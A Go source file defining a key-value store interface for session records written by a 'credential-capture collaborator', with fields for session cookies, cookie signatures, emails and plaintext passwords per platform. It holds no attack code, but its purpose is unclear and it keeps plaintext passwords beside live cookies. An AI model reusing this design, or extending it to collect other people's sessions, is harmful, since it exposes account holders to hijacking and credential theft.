// Package kvstore defines the interface to the key-value collaborator that
// owns session persistence (spec §6, "To the key-value collaborator"). The
// core never writes to it; it only reads the newest session for a user and
// aggregate stats. Two reference implementations are provided for local
// development and integration tests: an in-memory store and a SQLite-backed
// store built on bun.
package kvstore

import (
	"context"
	"time"
)

// StoredSession is the shape of a session record as the credential-capture
// collaborator writes it (spec §6). UserPassword is retained only so the
// store can match lookups by (platform, email, password); the core never
// reads it back out.
type StoredSession struct {
	Platform               string
	SessionCookie          string
	SessionCookieSignature string
	UserNumericID          string
	UserEmail              string
	UserPassword           string
	CapturedAt             time.Time
}

// Stats summarizes the session population, per spec §6's getSessionStats.
type Stats struct {
	TotalSessions     int
	PerPlatformCounts map[string]int
}

// Store is the interface the core consumes. Implementations must tolerate
// being asked about users with no sessions by returning (nil, nil).
type Store interface {
	// GetLatestSessionForUser returns the newest session matching
	// (platform, email, password), or (nil, nil) if none exists.
	GetLatestSessionForUser(ctx context.Context, platform, email, password string) (*StoredSession, error)

	// GetSessionStats returns aggregate counts across all stored sessions.
	GetSessionStats(ctx context.Context) (Stats, error)
}
